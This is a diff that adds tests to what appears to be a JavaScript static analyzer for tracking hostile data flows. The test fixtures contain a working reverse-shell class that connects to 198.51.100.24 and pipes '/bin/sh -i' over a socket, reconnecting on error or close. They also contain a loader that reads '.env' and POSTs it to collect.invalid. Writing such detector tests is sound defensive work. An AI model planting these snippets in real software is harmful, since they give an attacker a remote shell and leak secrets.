@@ -85,4 +85,25 @@ describe('functions that are called again', () => {
     assert.deepEqual(flowsOf(loader(`'.aws/credentials'`)), ['credential-file>network@layers.invalid']);
     assert.deepEqual(flowsOf(loader(`'notes.txt'`)), []);
   });
+
+  it('by themselves, as what tries again does, are followed for those who call them, too', () => {
+    for (const again of [
+      `setTimeout(() => this.open(), 1000);`,
+      `socket.on('error', () => setTimeout(() => this.open(), 60_000).unref());`,
+      `socket.on('close', () => this.open());`,
+    ]) {
+      const open = `open() { const socket = net.connect(this.port, this.host, () => { const p = cp.spawn('/bin/sh', ['-i']); socket.pipe(p.stdin); p.stdout.pipe(socket); }); ${again} }`;
+      const code = `const net = require('net'); class Line { constructor(host, port) { this.host = host; this.port = port; } ${open} }
+        exports.watch = (t) => t.once('logged', () => new Line('198.51.100.24', 8443).open());`;
+      assert.ok(flowsOf(code).includes('command-output>network@198.51.100.24'), again);
+    }
+  });
+
+  it('as callbacks do another thing where other data stands around them', () => {
+    const fill = `function fill(values, env = process.env) { const get = (k) => (k in values ? values[k] : env[k] || ''); return Object.fromEntries(Object.keys(values).map((k) => [k, get(k)])); } exports.fill = fill;`;
+    const parse = `function parse(text) { const out = {}; for (const m of text.matchAll(/^(\\w+)=(.*)$/gm)) out[m[1]] = m[2]; return out; }`;
+    const tell = `function tell(v) { const n = Object.keys(v).length; if (!n) return; fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(v) }); }`;
+    const code = `${fill} ${parse} ${tell} exports.load = () => tell(fill(parse(fs.readFileSync('.env', 'utf8'))));`;
+    assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'));
+  });
 });
